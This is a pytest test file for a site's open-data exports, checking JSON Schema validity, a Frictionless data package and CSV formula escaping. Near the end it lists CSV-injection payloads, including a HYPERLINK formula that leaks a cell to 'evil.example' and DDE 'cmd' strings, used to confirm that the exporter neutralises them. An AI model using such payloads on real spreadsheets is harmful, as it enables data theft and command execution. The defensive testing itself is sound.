"""The open data in /data/: JSON and CSV exports that follow their published schemas, and a
Frictionless data package that validates (golden files: tests/golden/data/, `make golden`)."""

from __future__ import annotations

import csv
import dataclasses
import html
import io
import json
from pathlib import Path
from typing import Any

import frictionless
import jsonschema
import pytest
import yaml
from referencing import Registry, Resource

from generator.build import BuildResult
from generator.export import (
    COLUMNS,
    DATA_DIR,
    EXPORT_SCHEMA,
    export_files,
    table_schema,
)
from generator.model import CaseStudy, Ending
from generator.paths import CASE_STUDY_SCHEMA, collect_files
from generator.spreadsheet import FORMULA_NOTE, spreadsheet_cell
from generator.validate import validate_files
from tests.golden import GOLDEN, SAMPLE, SETTINGS

CASE_STUDIES = Path(__file__).parent.parent / "case_studies"
BASE = "https://example.org/data/"  # where the tests pretend the files are published


def shipped() -> list[CaseStudy]:
    result = validate_files(collect_files([CASE_STUDIES]))
    assert result.problems == [], [problem.format_text() for problem in result.problems]
    return result.case_studies


def sample() -> list[CaseStudy]:
    return validate_files(collect_files([SAMPLE])).case_studies


def publish(case_studies: list[CaseStudy], site: Path) -> Path:
    """Write the exports as the build does into a site folder; return its data folder."""
    for name, text in export_files(case_studies, SETTINGS).items():
        target = site / name
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, "utf-8")
    return site / DATA_DIR


def record_validator(data: Path) -> tuple[dict[str, Any], jsonschema.Draft7Validator]:
    """Return the JSON document and a validator for one record, found as a data user would:
    through the schema address that the document itself names."""
    document = json.loads((data / "case-studies.json").read_text("utf-8"))
    schema_path = data / document["schema"]
    schema = json.loads(schema_path.read_text("utf-8"))
    jsonschema.Draft7Validator.check_schema(schema)
    uri = BASE + document["schema"]
    registry: Registry[Any] = Registry().with_resource(uri, Resource.from_contents(schema))
    validator = jsonschema.Draft7Validator(
        {"$ref": f"{uri}#/definitions/caseStudy"},
        registry=registry,
        format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER,
    )
    jsonschema.Draft7Validator(
        schema, format_checker=jsonschema.Draft7Validator.FORMAT_CHECKER
    ).validate(document)
    return document, validator


def problems(validator: jsonschema.Draft7Validator, record: object) -> list[str]:
    return [
        f"{'/'.join(map(str, error.absolute_path))}: {error.message}"
        for error in validator.iter_errors(record)
    ]


def frictionless_errors(package: Path) -> list[list[Any]]:
    report = frictionless.Package(str(package)).validate()
    errors: list[list[Any]] = report.flatten(["type", "message"])
    assert report.valid == (errors == [])
    return errors


@pytest.fixture(scope="module")
def shipped_data(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return publish(shipped(), tmp_path_factory.mktemp("site"))


def test_every_shipped_record_follows_the_published_schema(shipped_data: Path) -> None:
    document, validator = record_validator(shipped_data)
    assert document["count"] == len(document["case_studies"]) >= 5
    for record in document["case_studies"]:
        assert problems(validator, record) == [], record["slug"]


def test_shipped_data_package_validates(shipped_data: Path) -> None:
    assert frictionless_errors(shipped_data / "datapackage.json") == []


def test_data_package_describes_the_files(shipped_data: Path) -> None:
    package = json.loads((shipped_data / "datapackage.json").read_text("utf-8"))
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "path": "https://creativecommons.org/licenses/by/4.0/",
            "title": "Creative Commons Attribution 4.0 International",
        }
    ]
    assert package["sources"] == [
        {
            "title": "The case studies' YAML files",
            "path": "https://github.com/example/cwb/tree/main/case_studies",
        }
    ]
    table, records, *downloads = package["resources"]
    assert {resource["path"] for resource in downloads} >= {
        "citation.bib",
        "compare/citation.ris",
        "case-studies/preston/citation.json",
        "case-studies/preston/figure-1.csv",
        "case-studies/preston/figure-1.svg",
    }
    assert (table["path"], records["path"]) == ("case-studies.csv", "case-studies.json")
    assert (shipped_data / records["jsonSchema"]).is_file()
    with (shipped_data / table["path"]).open(encoding="utf-8", newline="") as file:
        header = next(csv.reader(file))
    assert [field["name"] for field in table["schema"]["fields"]] == header
    assert all(field["description"] for field in table["schema"]["fields"])


def test_a_tampered_export_fails_frictionless(tmp_path: Path) -> None:
    data = publish(sample(), tmp_path)
    table = data / "case-studies.csv"
    table.write_text(table.read_text("utf-8").replace(",town,", ",village,"), "utf-8")
    kinds = {kind for kind, _ in frictionless_errors(data / "datapackage.json")}
    assert kinds == {"constraint-error", "hash-count", "byte-count"}


def with_optional_fields(case: CaseStudy, ended: Ending | None, extra: str | None) -> CaseStudy:
    """Return the case study with every optional later addition set (or cleared)."""
    return dataclasses.replace(
        case,
        ended=ended,
        sources=tuple(dataclasses.replace(source, note=extra) for source in case.sources),
        metrics=tuple(
            dataclasses.replace(metric, indicator=extra and "cooperative-workers")
            for metric in case.metrics
        ),
        pillars=tuple(
            dataclasses.replace(
                work,
                initiatives=tuple(
                    dataclasses.replace(initiative, ended=ended) for initiative in work.initiatives
                ),
            )
            for work in case.pillars
        ),
    )


def test_optional_fields_validate_when_given_and_when_not(tmp_path: Path) -> None:
    [riverton] = sample()
    ended = Ending(year=2022, how="sold", note="Sold to its workers.", source="riverton-news")
    full = with_optional_fields(riverton, ended, "Not online.")
    full = dataclasses.replace(full, ended=dataclasses.replace(ended, date="2022-05"))
    bare = with_optional_fields(dataclasses.replace(riverton, slug="bare"), None, None)
    document, validator = record_validator(publish([full, bare], tmp_path))
    for record in document["case_studies"]:
        assert problems(validator, record) == [], record["slug"]

    exported = {record["slug"]: record for record in document["case_studies"]}
    record = exported["riverton"]
    assert record["ended"] == {
        "year": 2022,
        "date": "2022-05",
        "how": "sold",
        "note": "Sold to its workers.",
        "source": "riverton-news",
    }
    assert record["sources"][0]["note"] == "Not online."
    assert record["metrics"][0]["indicator"] == "cooperative-workers"
    assert record["pillars"]["procurement"]["initiatives"][0]["ended"]["date"] is None
    record = exported["bare"]
    assert record["ended"] is None
    assert record["sources"][0]["note"] is None
    assert record["metrics"][0]["indicator"] is None
    assert record["pillars"]["procurement"]["initiatives"][0]["ended"] is None


def test_the_schema_refuses_what_the_export_never_writes(tmp_path: Path) -> None:
    document, validator = record_validator(publish(sample(), tmp_path))
    [record] = document["case_studies"]
    assert problems(validator, {**record, "unknown": 1}) == [
        ": Additional properties are not allowed ('unknown' was unexpected)"
    ]
    missing = {key: value for key, value in record.items() if key != "end"}
    assert problems(validator, missing) == [": 'end' is a required property"]
    assert problems(validator, {**record, "pillars": {"banking": {}}})


# Enumerations that the export schema repeats from the contributors' schema: they must agree.
SAME_ENUMS = [
    ("caseStudy/properties/scale", "properties/scale"),
    ("caseStudy/properties/status", "properties/status"),
    ("actor/properties/type", "properties/actors/items/properties/type"),
    ("actor/properties/role", "properties/actors/items/properties/role"),
    ("metric/properties/unit", "properties/metrics/items/properties/unit"),
    ("pillar", "properties/metrics/items/properties/pillar"),
    ("ending/properties/how", "definitions/ended/properties/how"),
]


@pytest.mark.parametrize(("export_path", "source_path"), SAME_ENUMS)
def test_export_schema_enums_match_the_case_study_schema(
    export_path: str, source_path: str
) -> None:
    def enum(schema: dict[str, Any], path: str) -> list[str]:
        for key in path.split("/"):
            schema = schema[key]
        return list(schema["enum"])

    exported = json.loads(EXPORT_SCHEMA.read_text("utf-8"))["definitions"]
    source = json.loads(CASE_STUDY_SCHEMA.read_text("utf-8"))
    assert enum(exported, export_path) == enum(source, source_path)


def test_table_schema_comes_from_the_column_definitions() -> None:
    fields = table_schema()["fields"]
    assert isinstance(fields, list)
    assert [field["name"] for field in fields] == [column.name for column in COLUMNS]
    scale = next(field for field in fields if field["name"] == "scale")
    assert scale["constraints"]["enum"][:2] == ["neighbourhood", "town"]


def test_golden_csv_reads_back() -> None:
    text = (GOLDEN / DATA_DIR / "case-studies.csv").read_text("utf-8")
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (
        row["slug"] == "riverton"
        and row["end"] == ""
        and row["pillars"] == ("procurement;plural-ownership")
    )


def test_built_site_publishes_valid_open_data(built_site: tuple[Path, BuildResult]) -> None:
    site, _ = built_site
    data = site / DATA_DIR
    assert sorted(path.name for path in data.iterdir()) == [
        "case-studies",  # each case study's figures and citations
        "case-studies.csv",
        "case-studies.json",
        "case-studies.schema.json",
        "citation.bib",
        "citation.json",
        "citation.ris",
        "compare",
        "datapackage.json",
        "figure.schema.json",
        "index.html",  # the /data/ page that lists the downloads
    ]
    assert frictionless_errors(data / "datapackage.json") == []
    document, validator = record_validator(data)
    assert all(problems(validator, record) == [] for record in document["case_studies"])
    assert FORMULA_NOTE in html.unescape((data / "index.html").read_text("utf-8"))


# Cells a spreadsheet would run (OWASP, "CSV Injection"), each put into one text column.
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "place": "+SUM(1,2)",
    "region": "-2+3+cmd|' /C calc'!A0",
    "summary": "@SUM(1+1)*cmd|' /C calc'!A0 and enough words to make a summary.",
}


def test_formulas_are_text_in_the_csv_and_exact_in_the_json(tmp_path: Path) -> None:
    document = yaml.safe_load((SAMPLE / "riverton.yaml").read_text("utf-8"))
    document["title"] = FORMULAS["title"]
    document["place"].update(name=FORMULAS["place"], region=FORMULAS["region"])
    document["summary"] = FORMULAS["summary"]
    folder = tmp_path / "case_studies"
    folder.mkdir()
    (folder / "riverton.yaml").write_text(json.dumps(document), "utf-8")  # JSON is YAML
    result = validate_files(collect_files([folder]))
    assert result.problems == [], [problem.format_text() for problem in result.problems]

    data = publish(result.case_studies, tmp_path / "site")
    with (data / "case-studies.csv").open(encoding="utf-8", newline="") as file:
        [row] = list(csv.DictReader(file))
    assert {column: row[column] for column in FORMULAS} == {
        column: "'" + text for column, text in FORMULAS.items()
    }
    assert (row["lat"], row["lon"]) == ("53.5", "-2.25")  # numbers stay numbers
    [record] = json.loads((data / "case-studies.json").read_text("utf-8"))["case_studies"]
    exact = (record["title"], record["place"]["name"], record["place"]["region"])
    assert (*exact, record["summary"]) == tuple(FORMULAS.values())
    assert frictionless_errors(data / "datapackage.json") == []
    package = json.loads((data / "datapackage.json").read_text("utf-8"))
    assert FORMULA_NOTE in package["description"]
    assert FORMULA_NOTE in package["resources"][0]["description"]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u3000=1+1",  # an ideographic space first
        "\uff1d1+1",  # full-width =
        "\uff0b1",
        "\uff0d1",
        "\uff20SUM(A1)",
    ],
)
def test_a_cell_that_would_start_a_formula_starts_with_a_quote(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["Preston", "O'Brien's co-op", "Mid-Wales", "", "1 = 1", -2.25, 0]
)
def test_other_cells_are_left_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value
